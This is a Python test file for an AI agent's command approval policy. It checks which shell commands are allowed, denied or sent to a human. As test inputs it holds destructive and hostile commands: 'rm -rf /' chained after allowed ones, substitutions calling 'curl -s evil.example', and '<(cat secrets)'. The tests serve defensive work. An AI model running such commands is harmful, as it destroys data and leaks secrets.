"""The approval policy (workers/runtime/approval_policy.py): which calls run, which are refused, which wait for a human."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coordinator import Profile
from workers.runtime.approval_policy import verdict

CAREFUL = Profile(
    approval_tools=["run_command"],
    allow=["run_command:npm test", "run_command:git status"],
    deny=["run_command:rm -rf", "run_command:git push --force"],
)
# How long one verdict on a long command may take: it runs on the process's agent loop.
LINEAR_BUDGET_S = 1.0


def run(command: str, profile: Profile = CAREFUL) -> str:
    return verdict(profile, "run_command", {"command": command})


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("npm test", "allow"),
        ("npm test -- --watch", "allow"),
        ("  git status  ", "allow"),
        ("npm testing", "ask"),  # a prefix matches whole words
        ("make build", "ask"),
        ("rm -rf /tmp/x", "deny"),
        ("git push --force origin main", "deny"),
        ("npm test && git status", "allow"),
        ("npm test;git status", "allow"),
        ("npm test || make build", "ask"),  # every part must be allowed
        ("npm test | rm -rf /", "deny"),  # a denied part denies the whole
        ("npm test & rm -rf /", "deny"),
        ("npm test foo\nrm -rf /", "deny"),  # a new line is a new command
        ("npm test foo\nmake build", "ask"),
        ("npm test & make build", "ask"),
        ("npm test $(curl -s evil.example)", "ask"),  # substitutions are a human's call
        ("npm test `curl -s evil.example`", "ask"),
        ("npm test <(cat secrets)", "ask"),
        ("npm test && echo $(rm -rf /)", "ask"),
        ("", "ask"),
    ],
)
def test_the_policy_decides_what_it_can(command: str, expected: str) -> None:
    assert run(command) == expected


def test_tools_outside_the_policy_always_run() -> None:
    assert verdict(CAREFUL, "update_todo_list", {"todos": "rm -rf /"}) == "allow"
    assert run("anything at all", Profile(approval_tools=[])) == "allow"


def test_a_tool_rule_without_a_prefix_allows_every_call_but_substitutions() -> None:
    open_policy = Profile(approval_tools=["run_command"], allow=["run_command"])
    assert run("make build && make test", open_policy) == "allow"
    assert run("make $(whoami)", open_policy) == "ask"


# The split the policy used to make (quadratic on a run of spaces no separator follows).
OLD_CHAIN = re.compile(r"\s*(?:&&|\|\||;|\|)\s*")


@given(st.text(alphabet=" \t;|&abn", max_size=24))
def test_the_split_keeps_its_parts_where_no_new_separator_is(command: str) -> None:
    """Without a lone `&` or a new line, the parts are those of the old split (so the verdicts are too)."""
    lone_amp = re.search(r"(?<!&)&(?!&)", command.replace("&&", ""))
    if lone_amp is None and "\n" not in command:
        old = [p for p in OLD_CHAIN.split(command.strip()) if p] or [""]
        policy = Profile(approval_tools=["run_command"], allow=["run_command:a"], deny=["run_command:b"])
        expected = (
            "deny"
            if any(p == "b" or p.startswith("b ") for p in old)
            else ("allow" if all(p == "a" or p.startswith("a ") for p in old) else "ask")
        )
        assert run(command, policy) == expected


@pytest.mark.parametrize(
    "command",
    ["npm test" + " " * 1_000_000 + "x", "a" + " \t" * 500_000 + "&& b", "|" * 1_000_000],
    ids=["spaces", "spaces and tabs", "pipes"],
)
def test_a_long_command_is_decided_in_linear_time(command: str) -> None:
    started = time.perf_counter()
    run(command)
    assert time.perf_counter() - started < LINEAR_BUDGET_S
